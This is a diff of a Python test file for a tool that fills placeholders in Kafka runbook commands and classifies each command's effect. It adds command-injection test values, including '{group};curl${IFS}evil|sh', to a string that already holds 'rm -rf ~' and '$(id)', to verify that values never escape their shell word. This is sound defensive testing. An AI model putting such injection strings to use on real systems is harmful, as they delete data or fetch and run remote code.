@@ -12,14 +12,16 @@ from service.runbooks.commands import Effect, effect_of, fill, fill_text
 from service.runbooks.filling import values_of
 
 HOSTILE = "a b; rm -rf ~ $(id) `id` 'x\" --execute {group} ü\n"
+SHORT_HOSTILE = "{group};curl${IFS}evil|sh"  # has the form of a placeholder, and no space
 AT = Surroundings(
     bootstrap_servers="b1:9092", of_server=("--server", "http://t:1"), config=Path("/c.toml")
 )
 
 
-def test_a_value_never_leaves_its_word() -> None:
-    command = fill("kafka-consumer-groups.sh --describe --group={group}", {"group": HOSTILE})
-    assert command.words == ("kafka-consumer-groups.sh", "--describe", f"--group={HOSTILE}")
+@pytest.mark.parametrize("value", [HOSTILE, SHORT_HOSTILE])
+def test_a_value_never_leaves_its_word(value: str) -> None:
+    command = fill("kafka-consumer-groups.sh --describe --group={group}", {"group": value})
+    assert command.words == ("kafka-consumer-groups.sh", "--describe", f"--group={value}")
     assert command.effect is Effect.READS
     assert shlex.split(str(command)) == list(command.words)
     assert command.is_complete  # capitals of a value are not for a person to fill in
@@ -35,6 +37,8 @@ def test_a_pattern_matches_the_name_alone() -> None:
         ("tidemark tx hanging", Effect.READS),
         ("tidemark collect --once", Effect.READS),
         ("tidemark loss check orders-0", Effect.READS),
+        ("tidemark status", Effect.READS),
+        ("tidemark lag billing", Effect.READS),
         ("tidemark collect", Effect.UNKNOWN),  # it never ends
         ("tidemark alerts close {fingerprint}", Effect.CHANGES),
         ("tidemark sandbox down", Effect.UNKNOWN),
@@ -72,7 +76,25 @@ def test_addresses_are_added_where_options_may_be() -> None:
         completed("kafka-transactions.sh list")
         == "kafka-transactions.sh --bootstrap-server b1:9092 list"
     )
+    assert completed("tidemark lag -- a") == "tidemark lag --server http://t:1 -- a"
     assert completed("kubectl get pods") == "kubectl get pods"
+
+
+def test_what_is_shown_of_the_sandbox_is_what_runs() -> None:
+    """A person says yes to the line that is shown."""
+    at = Surroundings(bootstrap_servers="prod:9092", kafka_tools="sandbox")
+    command = fill("kafka-transactions.sh list", {})
+    shown = at.complete(command)
+    assert shown == ("tidemark", "sandbox", "tool", "kafka-transactions.sh", "list")
+    assert tuple(at.program(command)[-len(shown) + 1 :]) == shown[1:]
+
+
+def test_each_tool_gets_its_own_option_for_properties() -> None:
+    at = Surroundings(bootstrap_servers="b1:9092", command_config=Path("/p"))
+    elect = at.complete(fill("kafka-leader-election.sh --election-type=preferred", {}))
+    assert elect[1:5] == ("--bootstrap-server", "b1:9092", "--admin.config", "/p")
+    quorum = "kafka-metadata-quorum.sh --bootstrap-controller=c:1 describe --status"
+    assert at.complete(fill(quorum, {}))[1:3] == ("--command-config", "/p")
 
 
 @pytest.mark.parametrize(
